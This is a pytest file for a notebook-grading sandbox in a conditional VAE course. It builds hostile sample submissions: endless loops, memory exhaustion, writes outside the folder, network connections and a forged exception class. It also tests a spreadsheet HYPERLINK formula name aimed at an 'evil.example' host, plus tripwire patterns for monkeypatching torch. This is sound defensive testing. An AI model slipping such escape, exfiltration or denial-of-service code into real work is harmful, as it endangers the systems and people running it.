"""``python -m cvae_lib grade``: a sample class built from the 06 solution, graded for real.

Each sample replaces one piece of the solution notebook (found by the function its cell
defines), so the samples follow the notebook as it changes. The expected label of each
mistake comes from running the check on the same code in this process.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import re
import shutil
import socket
import tempfile
import threading
from pathlib import Path

import nbformat
import pytest
import torch
import torch.nn.functional as F
from torch import nn

from cvae_lib import checks
from cvae_lib.classroom.grading import grade as grading
from cvae_lib.classroom.grading import notebooks as notebook_checks
from cvae_lib.classroom.grading import report as grade_report
from cvae_lib.classroom.grading import run as submission_run
from cvae_lib.classroom.grading import tripwire
from cvae_lib.classroom.grading import sandbox

NOTEBOOKS = sandbox.REPO / "notebooks"
SOLUTION = NOTEBOOKS / "solutions" / "06_recode_from_scratch.ipynb"
# Generous enough for a fresh interpreter importing torch on a busy 2-core machine (the limit
# counts start-up since grading runs each submission in its own process); the loop runs this long
# (--timeout overrides the default of 06, which tests/test_grading_sandbox.py uses).
LIMIT = 40.0
RIGHT = "return mu + torch.exp(0.5 * logvar) * torch.randn_like(mu)"


# The checks of exercise 06 that run code of the SimpleCVAE cell, and what each is given.
MODEL_CHECKS = {"check_simple_cvae": "SimpleCVAE",
                "check_reparameterize": "SimpleCVAE().reparameterize"}


def cell_defining(nb: nbformat.NotebookNode, name: str) -> nbformat.NotebookNode:
    """The code cell that defines function or class ``name``."""
    pattern = re.compile(rf"^\s*(def|class)\s+{name}\b", re.M)
    return next(c for c in nb.cells if c.cell_type == "code" and pattern.search(c.source))


def with_body(source: str, body: str, after: str = "") -> str:
    """``source`` with the first solution block after the line holding ``after`` replaced."""
    lines = source.splitlines()
    first = next(i for i, line in enumerate(lines) if after in line)
    start = next(i for i, line in enumerate(lines)
                 if i >= first and line.strip() == "### BEGIN SOLUTION")
    end = next(i for i, line in enumerate(lines)
               if i > start and line.strip() == "### END SOLUTION")
    indent = lines[start][: len(lines[start]) - len(lines[start].lstrip())]
    return "\n".join(lines[:start] + [indent + line for line in body.splitlines()]
                     + lines[end + 1:])


def substituted(source: str, pattern: str, replacement: str) -> str:
    """``source`` with ``pattern`` replaced; fails if the notebook no longer contains it."""
    changed, count = re.subn(pattern, replacement, source)
    assert count, f"the solution no longer contains {pattern!r}: update this sample"
    return changed


def variant(name: str, source: str) -> nbformat.NotebookNode:
    """The solution notebook with the cell defining ``name`` replaced by ``source``."""
    nb = nbformat.read(SOLUTION, as_version=4)
    cell_defining(nb, name).source = source
    return nb


def reparameterize_variant(body: str) -> nbformat.NotebookNode:
    """The solution with another body for the method reparameterize of SimpleCVAE."""
    nb = nbformat.read(SOLUTION, as_version=4)
    source = cell_defining(nb, "SimpleCVAE").source
    return variant("SimpleCVAE", with_body(source, body, after="def reparameterize"))


def reparameterize_fails(value: str) -> dict[str, str]:
    """A broken reparameterize fails its check, and the model's, whose forward calls it."""
    return dict.fromkeys(MODEL_CHECKS, value)


def check_labels(source: str, targets: dict[str, str]) -> dict[str, str]:
    """What each failing check says, run here, about its expression after ``source`` ran."""
    namespace = {"torch": torch, "F": F, "nn": nn}
    exec(source, namespace)  # the sample's own code, written by this test
    labels = {}
    for check, target in targets.items():
        try:
            getattr(checks, check)(eval(target, namespace))
        except AssertionError as failure:
            labels[check] = (getattr(failure, "label", None)
                             or notebook_checks.short_label(str(failure)))
    assert labels, f"the sample passes every check: {source[:60]!r}"
    return labels


def mistakes(solution: nbformat.NotebookNode) -> dict[str, tuple[nbformat.NotebookNode, dict]]:
    """Samples with one common mistake each, and the label their check gives it."""
    model = substituted(cell_defining(solution, "SimpleCVAE").source, r"dim\s*=\s*1", "dim=0")
    loss = substituted(cell_defining(solution, "cvae_loss").source, r"-\s*0\.5\s*\*", "0.5 *")
    noise = with_body(cell_defining(solution, "SimpleCVAE").source, "z = mu",
                      after="def reparameterize")
    return {
        "dim0.ipynb": (variant("SimpleCVAE", model), check_labels(model, MODEL_CHECKS)),
        "kl_sign.ipynb": (variant("cvae_loss", loss),
                          check_labels(loss, {"check_cvae_loss": "cvae_loss"})),
        "no_noise.ipynb": (variant("SimpleCVAE", noise), check_labels(noise, MODEL_CHECKS)),
    }


def attacks(targets: list[str], port: int) -> dict[str, tuple[nbformat.NotebookNode, dict]]:
    """Samples that misbehave: loop, exit, eat memory, write outside, reach the network."""
    write = (f"for target in {targets!r}:\n    try:\n        with open(target, 'w') as f:\n"
             "            f.write('overwritten by a submission')\n    except OSError:\n"
             "        pass\n")
    connect = ("import socket\ntry:\n    socket.create_connection(('127.0.0.1', "
               f"{port}), timeout=2).sendall(b'hello')\nexcept OSError:\n    pass\n")
    return {
        # It sleeps instead of spinning, so its 30 s leave the cores to the rest of the suite;
        # the grader stops either kind by the same time limit.
        "loops.ipynb": (reparameterize_variant("import time\nwhile True:\n    time.sleep(0.1)"),
                        dict.fromkeys(["check_reparameterize", "check_cvae_loss",
                                       "check_simple_cvae"], submission_run.TIMED_OUT)),
        "exits.ipynb": (reparameterize_variant("import sys\nsys.exit(1)"),  # sys: a review
                        {**reparameterize_fails("crashed: SystemExit"),
                         "check_cvae_loss": submission_run.REVIEW}),
        "memory.ipynb": (reparameterize_variant(f"bytearray(9 * 2 ** 30)\n{RIGHT}"),
                         reparameterize_fails("crashed: MemoryError")),
        "fake_memory.ipynb": (reparameterize_variant(  # a class that calls itself MemoryError
            "raise type('MemoryError', (Exception,), {'__module__': 'builtins'})()"),
            reparameterize_fails(submission_run.OTHER)),
        "escape.ipynb": (reparameterize_variant(write + RIGHT), {}),
        "network.ipynb": (reparameterize_variant(connect + RIGHT), {}),
    }


def deep_cell() -> nbformat.NotebookNode:
    """The solution with a cell so deeply nested that Python's parser gives up on it."""
    nb = nbformat.read(SOLUTION, as_version=4)
    nb.cells.insert(3, nbformat.v4.new_code_cell("x = a" + " + a" * 24_000))  # 96,005 chars
    return nb


class Listener:
    """A listening socket (TCP on 127.0.0.1 by default) that records every connection to it."""

    def __init__(self, server: socket.socket | None = None) -> None:
        self.server = server or socket.create_server(("127.0.0.1", 0))
        self.connections = 0
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        """Count connections until the socket is closed."""
        with contextlib.suppress(OSError):
            while True:
                self.server.accept()[0].close()
                self.connections += 1


@pytest.fixture(scope="module")
def graded(tmp_path_factory) -> dict:
    """Grade the sample class once: the printout, the report folder and what to compare."""
    base = tmp_path_factory.mktemp("grading")
    folder, out = base / "class", base / "report"
    folder.mkdir()
    outside = Path(tempfile.mkdtemp(dir="/var/tmp" if Path("/var/tmp").is_dir() else None))
    markers = [base / "marker.txt", outside / "marker.txt"]
    for marker in markers:
        marker.write_text("original")
    listener = Listener()
    targets = [str(p) for p in (*markers, base / "new.txt", folder / "correct.ipynb",
                                folder / "planted.txt")]
    solution = nbformat.read(SOLUTION, as_version=4)
    todo = reparameterize_variant('raise NotImplementedError("TODO: compute z")')
    samples = {"correct.ipynb": (solution, {}),
               "todo.ipynb": (todo, reparameterize_fails(submission_run.TODO)),
               **mistakes(solution), **attacks(targets, listener.server.getsockname()[1]),
               "deep.ipynb": (deep_cell(), {})}
    for name, (nb, _) in samples.items():
        nbformat.write(nb, folder / name)
    (folder / "corrupt.ipynb").write_text("{ this is not json")
    odd = deep_cell()
    odd.cells[3].source += " + a" * 2_000
    nbformat.write(odd, folder / "long_cell.ipynb")
    odd.cells[3].source = 5
    (folder / "int_source.ipynb").write_text(json.dumps(odd))
    (folder / "notes.txt").write_text("not a notebook")
    shutil.copy(NOTEBOOKS / "01_vae_fundamentals.ipynb", folder / "lesson01.ipynb")
    shutil.copy(NOTEBOOKS / "05_modify_parameters.ipynb", folder / "ex05.ipynb")
    before = {p.name: p.read_bytes() for p in folder.iterdir()}
    problem = sandbox.find_sandbox().problem  # where bubblewrap cannot run: said, not hidden
    printed, errors = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(printed), contextlib.redirect_stderr(errors):
        code = grading.main([str(folder), "--exercise", "06", "--out", str(out),
                             "--timeout", str(LIMIT), "--jobs", "2",
                             *["--no-sandbox"] * bool(problem)])
    listener.server.close()
    yield {"code": code, "printed": printed.getvalue(), "errors": errors.getvalue(), "out": out,
           "problem": problem, "samples": samples,
           "markers": markers, "base": base, "folder": folder, "before": before,
           "listener": listener}
    shutil.rmtree(outside)


def skip_without_sandbox(problem: str) -> None:
    """Skip a test of the sandbox where bubblewrap cannot run, saying why."""
    if problem:
        pytest.skip(f"no sandbox here, the class was graded with --no-sandbox: {problem}")


def printed_rows(printed: str) -> dict[str, list[str]]:
    """Rows of the printed table: submission -> [seconds, cell, cell, ...]."""
    rows = {}
    for line in printed.splitlines():
        cells = re.split(r"\s{2,}", line.strip())
        if cells[0].endswith((".ipynb", ".txt")):
            rows[cells[0]] = cells[1:]
    return rows


def test_every_submission_gets_its_expected_row(graded: dict) -> None:
    """Each check cell shows OK, the mistake's label, TODO, a crash or a timeout."""
    assert graded["code"] == 0, graded["errors"]
    exercise = grading.pick_exercise(notebook_checks.load_exercises(), "06")
    rows = printed_rows(graded["printed"])
    for name, (_, expected) in graded["samples"].items():
        want = [expected.get(check, submission_run.OK) for check in exercise.checks]
        assert rows[name][1:] == want, name
    assert rows["corrupt.ipynb"][0].startswith("unreadable")
    assert rows["long_cell.ipynb"] == ["not graded: a code cell of over 100,000 characters"]
    assert rows["int_source.ipynb"] == ["unreadable: a cell without a type or text"]
    assert rows["notes.txt"] == ["not a notebook"]
    assert rows["lesson01.ipynb"] == [grading.NOT_EXERCISE]
    assert rows["ex05.ipynb"] == ["wrong exercise: 05, not 06"]


def test_mistakes_are_named_not_crashes(graded: dict) -> None:
    """The three common mistakes come out as the checks' words, not as crashes."""
    rows = printed_rows(graded["printed"])
    for name in ("dim0.ipynb", "kl_sign.ipynb", "no_noise.ipynb"):
        named = [v for v in rows[name][1:] if v != submission_run.OK]
        assert named and not any(v.startswith("crashed") for v in named), (name, named)


def test_looping_submission_stops_at_its_limit(graded: dict) -> None:
    """The endless loop is cut at the time limit (plus the kernel's start), not much later."""
    seconds = float(printed_rows(graded["printed"])["loops.ipynb"][0])
    assert LIMIT <= seconds < LIMIT + 40


def test_class_totals_add_up(graded: dict) -> None:
    """Every check's totals count each graded submission once, in the printout too."""
    exercise = grading.pick_exercise(notebook_checks.load_exercises(), "06")
    number = len(graded["samples"])
    lines = [line.strip() for line in graded["printed"].splitlines()
             if line.strip().startswith(tuple(f"{c}:" for c in exercise.checks))]
    assert len(lines) == len(exercise.checks)
    for line in lines:
        counts = [int(n) for n, total in re.findall(r": (\d+) of (\d+)", line)]
        assert sum(counts) == number and f"of {number}" in line
    assert f"({number} run)" in graded["printed"]


def test_csv_and_html_hold_the_same_rows(graded: dict) -> None:
    """grades.csv has one row per file; grades.html is self-contained and escaped."""
    with open(graded["out"] / "grades.csv", newline="") as f:
        table = {row["submission"]: row for row in csv.DictReader(f)}
    assert len(table) == len(graded["before"])
    assert table["todo.ipynb"]["check_reparameterize"] == submission_run.TODO
    assert table["loops.ipynb"]["check_cvae_loss"] == submission_run.TIMED_OUT
    assert float(table["correct.ipynb"]["seconds"]) > 0
    page = (graded["out"] / "grades.html").read_text()
    assert "<style>" in page and "<script" not in page and "http" not in page
    assert "todo.ipynb" in page and "crashed: SystemExit" in page


def test_nothing_outside_the_temporary_folder_changes(graded: dict) -> None:
    """The submission that writes outside its folder changes no file, not even its own."""
    skip_without_sandbox(graded["problem"])
    assert graded["printed"].splitlines()[1].startswith("Sandbox: bubblewrap")
    assert all(m.read_text() == "original" for m in graded["markers"])
    assert not (graded["base"] / "new.txt").exists()
    folder = graded["folder"]
    assert {p.name: p.read_bytes() for p in folder.iterdir()} == graded["before"]


def test_network_is_unreachable(graded: dict) -> None:
    """The submission that connects to a port listening on this machine never gets there."""
    skip_without_sandbox(graded["problem"])
    assert graded["listener"].connections == 0


def test_empty_folder_is_an_error(tmp_path: Path, capsys: pytest.CaptureFixture) -> None:
    """An empty folder: a clear message and a non-zero exit, no report."""
    assert grading.main([str(tmp_path), "--out", str(tmp_path / "report")]) == 2
    assert "holds no files" in capsys.readouterr().err
    assert not (tmp_path / "report").exists()


@pytest.mark.parametrize("options, message", [
    (["--timeout", "nan"], "--timeout must be a positive number"),
    (["--timeout", "0"], "--timeout must be a positive number"),
    (["--memory-mb", "10"], "--memory-mb must be at least"),
    (["--jobs", "0", "--out", "{folder}/r"], "--jobs must be at least 1"),
    (["--out", "{folder}"], "is the folder being graded"),
    (["--out", "{folder}/a.ipynb"], "is a file, not a folder"),
], ids=["timeout nan", "timeout 0", "memory 10 MiB", "jobs 0", "out is the class",
        "out is a file"])
def test_bad_options_are_refused_before_any_notebook_runs(
        tmp_path: Path, capsys: pytest.CaptureFixture, options: list[str], message: str) -> None:
    """A mistyped option: one line and exit 2 before grading starts, so nothing is wasted."""
    nbformat.write(nbformat.read(SOLUTION, as_version=4), tmp_path / "a.ipynb")
    options = [option.format(folder=tmp_path) for option in options]
    assert grading.main([str(tmp_path), *options]) == 2
    captured = capsys.readouterr()
    assert message in captured.err and not captured.out  # no table: no notebook ran
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.ipynb"]


def test_the_header_names_the_time_limit_given(graded: dict) -> None:
    """--timeout replaces the exercise's default, and the header says which one applied."""
    assert f"Limits per notebook: 06: {LIMIT:g} s (--timeout);" in graded["printed"]


def test_every_exercise_has_a_measured_default_time_limit() -> None:
    """Each exercise's default is the factor times its solution's time, at least the floor."""
    numbers = [ex.number for ex in notebook_checks.load_exercises()]
    assert sorted(grading.SOLUTION_SECONDS) == numbers
    for number in numbers:
        seconds = grading.TIMEOUT_FACTOR * grading.SOLUTION_SECONDS[number]
        assert grading._default_timeout(number) == max(grading.TIMEOUT_FLOOR, round(seconds))
    assert grading._default_timeout("99") == grading.UNMEASURED_TIMEOUT


def test_two_jobs_give_each_kernel_one_core_of_two(graded: dict) -> None:
    """Submissions graded two at once share the cores instead of fighting for them."""
    threads = max(1, (os.cpu_count() or 1) // 2)
    assert f"{threads} thread{'s' * (threads > 1)}." in graded["printed"]


def test_exercises_follow_the_solution_notebooks() -> None:
    """Each solution notebook is an exercise; 06 has its three checks as columns."""
    exercises = notebook_checks.load_exercises()
    assert [ex.number for ex in exercises] == ["05", "06", "07"]
    assert {"check_reparameterize", "check_cvae_loss",
            "check_simple_cvae"} <= set(grading.pick_exercise(exercises, "6").checks)


def test_a_renamed_notebook_is_recognised_by_its_checks() -> None:
    """Without its title, 06 is still recognised by the checks it calls."""
    exercises = notebook_checks.load_exercises()
    nb = nbformat.read(SOLUTION, as_version=4)
    nb.cells[0].source = "# My homework"
    assert notebook_checks.identify(nb, exercises) == grading.pick_exercise(exercises, "06")
    nb.cells = [c for c in nb.cells if "check_" not in c.source]
    assert notebook_checks.identify(nb, exercises) is None


def test_html_escapes_student_text() -> None:
    """A file name or label with markup is shown as text."""
    exercise = notebook_checks.Exercise("06", "06 · Title", ("check_x",))
    rows = [grade_report.Row("<b>x</b>.ipynb", "06", grade_report.GRADED,
                        {"check_x": "<script>alert(1)</script>"}, 1.0)]
    page = grade_report.html_report(rows, [exercise], ["note & more"])
    assert "<script>" not in page and "&lt;script&gt;" in page
    assert "&lt;b&gt;x&lt;/b&gt;.ipynb" in page and "note &amp; more" in page


def test_short_label_keeps_the_first_clause() -> None:
    """A message without a label is named by its first clause."""
    assert notebook_checks.short_label("The KL term has the wrong sign: KL = -0.5 * ...") == (
        "The KL term has the wrong sign")
    assert notebook_checks.short_label("") == "assertion failed"
    assert len(notebook_checks.short_label("word " * 40)) == notebook_checks.LABEL_CHARS


def test_outcomes_are_named_from_a_fixed_set() -> None:
    """A label is a check's own, a built-in exception's name, or a fixed phrase: never text a
    submission chose."""
    labels = {("<check c>", 3): "the label"}
    assert submission_run.describe(["mistake", "kl_sign"], None, labels) == "KL sign"
    assert submission_run.describe(["mistake", "made up"], None, labels) == (
        "crashed: CheckFailure")
    assert submission_run.describe(["assert", "<check c>", 3], None, labels) == "the label"
    assert submission_run.describe(["assert", "<check c>", 4], None, labels) == (
        "assertion failed")
    assert submission_run.describe(["error", "builtins", "KeyError"], None, labels) == (
        "crashed: KeyError")
    assert submission_run.describe(["error", "builtins", "OK\nzz"], None, labels) == (
        submission_run.OTHER)
    assert submission_run.describe(["error", "builtins", "NameError"], ["todo"], labels) == (
        submission_run.TODO)
    assert not submission_run._well_formed(["ok", "extra"])
    assert not submission_run._well_formed(["assert", "<check c>", True])


def test_file_names_are_shown_on_one_line() -> None:
    """Control characters in a name become '?', and a long name is cut."""
    assert grade_report.printable("a\nb\x1b[32mc\u202e") == "a?b?[32mc?"
    assert len(grade_report.printable("x" * 500)) == grade_report.NAME_CHARS


def test_no_name_forges_a_row_or_a_formula(tmp_path: Path) -> None:
    """A name with Unicode line separators or wide gaps stays one cell of one line (as the
    tests' own row parser reads it), and a name that looks like a formula is text in a
    spreadsheet."""
    forged = "me.ipynb\u2028alice.ipynb          7.9      OK   OK   OK\u2029.ipynb"
    shown = grade_report.printable(forged)
    assert shown.splitlines() == [shown] and "\u2028" not in shown
    assert list(printed_rows(f"{shown}  4.2  OK  TODO left  OK")) == [shown]
    assert grade_report.printable("my notebook\u3000\u00a0.ipynb") == "my notebook??.ipynb"
    formula = '=HYPERLINK("http://evil.example?"&A2,"grades").ipynb'
    rows = [grade_report.Row(grade_report.printable(formula), status="not an exercise notebook")]
    grade_report.write_csv(tmp_path / "grades.csv", rows, [])
    with open(tmp_path / "grades.csv", newline="") as f:
        [row] = list(csv.DictReader(f))
    assert row["submission"] == "'" + formula


@pytest.mark.parametrize("source, found", [
    ("import \uff47\uff43", ["import gc"]),  # full-width letters: Python reads them as gc
    ("from torch.overrides import TorchFunctionMode", ["import torch.overrides"]),
    ("torch.Tensor.item = lambda self: 0.0", ["assigns into torch"]),
    ("F.__dict__['mse_loss'] = print", ["assigns into F", ".__dict__"]),
    ("value = getattr(model, name)", ["getattr"]),
    ("import torch._C._nn as c", ["import torch._C._nn"]),
    ("class M(nn.Module):\n    def __init__(self):\n        super().__init__()\n"
     "        self.fc = nn.Linear(794, 256)\n        self.fc.weight.data[0] = 0", []),
])
def test_the_tripwire_names_what_reaches_into_python(source: str, found: list[str]) -> None:
    """Code that could fool the checks from inside their process is named; a model is not."""
    nb = nbformat.v4.new_notebook(cells=[
        nbformat.v4.new_code_cell("import torch\nimport torch.nn.functional as F\n"
                                  "from torch import nn"), nbformat.v4.new_code_cell(source)])
    assert tripwire.findings(nb) == found


def test_the_other_exercises_solutions_get_ok(tmp_path: Path, capsys) -> None:
    """05's and 07's own solutions pass every check in the sandbox: nothing their cells do
    in passing (copyreg's cache on a class, a warning's registry) reads as a changed check."""
    for name in ("05_modify_parameters.ipynb", "07_challenge_thickness.ipynb"):
        shutil.copy(NOTEBOOKS / "solutions" / name, tmp_path / name)
    problem = sandbox.find_sandbox().problem
    assert grading.main([str(tmp_path), "--out", str(tmp_path / "report"), "--jobs", "2",
                         *["--no-sandbox"] * bool(problem)]) == 0
    rows = printed_rows(capsys.readouterr().out)
    assert rows["05_modify_parameters.ipynb"][1:] == [submission_run.OK]
    assert rows["07_challenge_thickness.ipynb"][1:] == [submission_run.OK] * 2


def test_an_exercise_defined_check_keeps_its_own_code_and_labels(tmp_path: Path,
                                                                 capsys) -> None:
    """07's check_condition is the solution notebook's, whatever the submission defines: a
    no-op redefinition does not hide a mistake, named by the failing assert's own message."""
    nb = nbformat.read(NOTEBOOKS / "solutions" / "07_challenge_thickness.ipynb", as_version=4)
    condition = cell_defining(nb, "condition")
    condition.source = substituted(condition.source, r"\[digit_onehot, thickness_onehot\]",
                                   "[thickness_onehot, digit_onehot]")
    cell_defining(nb, "check_condition").source = "def check_condition(condition):\n    pass"
    nbformat.write(nb, tmp_path / "07.ipynb")
    problem = sandbox.find_sandbox().problem
    assert grading.main([str(tmp_path), "--out", str(tmp_path / "report"), "--timeout",
                         str(3 * LIMIT), *["--no-sandbox"] * bool(problem)]) == 0
    assert printed_rows(capsys.readouterr().out)["07.ipynb"][1:] == [
        "each row must be the digit one-hot, then the thickness one-…", submission_run.OK]
